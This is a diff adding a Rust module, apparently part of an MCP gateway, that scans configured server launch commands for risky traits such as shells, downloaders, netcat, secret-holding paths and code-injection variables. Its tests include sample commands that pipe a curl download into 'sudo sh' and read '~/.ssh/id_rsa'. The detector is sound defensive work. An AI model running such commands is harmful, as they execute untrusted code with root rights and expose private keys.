@@ -1,0 +1,125 @@
+//! Guesses what is dangerous about a command, from its words. A command without a finding can still
+//! do harm.
+
+use bowline_gateway::config::CommandLaunch;
+
+/// Programs that run the text of their arguments.
+const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "fish", "cmd", "powershell", "pwsh"];
+const INTERPRETERS: &[&str] =
+    &["node", "deno", "bun", "python", "python3", "perl", "ruby", "php", "osascript"];
+const CODE_OPTIONS: &[&str] = &["-c", "-e", "-r", "-p", "--eval", "--print", "eval"];
+
+/// Words, and what they do.
+const WORDS: &[(&str, &str)] = &[
+    ("sudo", "it asks for the rights of the administrator (`sudo`)"),
+    ("doas", "it asks for the rights of the administrator (`doas`)"),
+    ("rm", "it deletes files (`rm`)"),
+    ("dd", "it may overwrite disks (`dd`)"),
+    ("mkfs", "it formats disks (`mkfs`)"),
+    ("curl", "it downloads something (`curl`)"),
+    ("wget", "it downloads something (`wget`)"),
+    ("nc", "it opens connections of its own (`nc`)"),
+    ("eval", "it runs text as code (`eval`)"),
+    ("base64", "it may hide what it does (`base64`)"),
+    ("--privileged", "the container has all rights of this machine (`--privileged`)"),
+    ("--allow-all", "it switches the sandbox of its runtime off (`--allow-all`)"),
+];
+
+/// Places that hold secrets or settings of the system.
+const PLACES: &[&str] = &[
+    ".ssh",
+    ".aws",
+    ".gnupg",
+    ".kube",
+    ".config/gcloud",
+    ".netrc",
+    ".npmrc",
+    ".docker/config.json",
+    "/etc/",
+    "/var/run/docker.sock",
+    "id_rsa",
+    "id_ed25519",
+    ".bashrc",
+    ".zshrc",
+    "Keychains",
+];
+
+/// Variables that make other programs run code.
+const VARIABLES: &[&str] = &[
+    "LD_PRELOAD",
+    "LD_LIBRARY_PATH",
+    "DYLD_INSERT_LIBRARIES",
+    "NODE_OPTIONS",
+    "PYTHONSTARTUP",
+    "PYTHONPATH",
+    "PERL5OPT",
+    "RUBYOPT",
+    "BASH_ENV",
+    "PATH",
+];
+
+/// The findings, as sentences.
+pub(super) fn of_command(launch: &CommandLaunch) -> Vec<String> {
+    let mut findings = Vec::new();
+    let program = base(&launch.program);
+    let has_code = launch.args.iter().any(|it| CODE_OPTIONS.contains(&it.as_str()) || it == "/c");
+    if SHELLS.contains(&program.as_str()) {
+        findings.push(format!("it runs a script in a shell (`{program}`)"));
+    } else if INTERPRETERS.contains(&program.as_str()) && has_code {
+        findings.push(format!("its arguments are code for `{program}`"));
+    }
+    let words = || std::iter::once(&launch.program).chain(&launch.args);
+    let text = words().map(String::as_str).collect::<Vec<_>>().join(" ");
+    for (word, finding) in WORDS {
+        if text
+            .split(|c: char| c.is_whitespace() || ";|&()`$\"'".contains(c))
+            .any(|it| base(it) == *word)
+        {
+            findings.push((*finding).to_owned());
+        }
+    }
+    for place in PLACES.iter().filter(|place| text.contains(**place)) {
+        findings.push(format!("it names a sensitive place (`{place}`)"));
+    }
+    for name in VARIABLES.iter().filter(|name| launch.env.contains_key(**name)) {
+        findings.push(format!("the variable `{name}` can make programs run other code"));
+    }
+    findings
+}
+
+/// The last part of a path, without `.exe`.
+fn base(program: &str) -> String {
+    let name = program.rsplit(['/', '\\']).next().unwrap_or(program);
+    name.strip_suffix(".exe").unwrap_or(name).to_lowercase()
+}
+
+#[cfg(test)]
+mod tests {
+    use bowline_gateway::config::{ConfigFile, ConfigVariables, Dialect, Launch};
+
+    use super::*;
+
+    fn findings(entry: &str) -> String {
+        let text = format!(r#"{{"mcpServers":{{"a":{entry}}}}}"#);
+        let file = ConfigFile::parse(&text, "x.json", Dialect::ClaudeCode).unwrap();
+        let launch = file.entries[0].resolve(&ConfigVariables::none()).unwrap();
+        let Launch::Command(launch) = launch else { panic!("no command") };
+        of_command(&launch).join("; ")
+    }
+
+    // spec: LOCAL-5
+    #[test]
+    fn dangerous_patterns_and_sensitive_places_are_named() {
+        assert_eq!(findings(r#"{"command":"npx","args":["-y","server"]}"#), "");
+        let script = findings(r#"{"command":"/bin/sh","args":["-c","curl https://x|sudo sh"]}"#);
+        assert!(script.contains("runs a script in a shell (`sh`)"), "{script}");
+        assert!(script.contains("downloads"), "{script}");
+        assert!(script.contains("administrator"), "{script}");
+        let code = findings(r#"{"command":"node.exe","args":["-e","0"]}"#);
+        assert_eq!(code, "its arguments are code for `node`");
+        let place = findings(r#"{"command":"cat","args":["~/.ssh/id_rsa"]}"#);
+        assert!(place.contains("sensitive place (`.ssh`)"), "{place}");
+        let variable = findings(r#"{"command":"npx","env":{"NODE_OPTIONS":"--require ./x"}}"#);
+        assert!(variable.contains("`NODE_OPTIONS` can make"), "{variable}");
+    }
+}
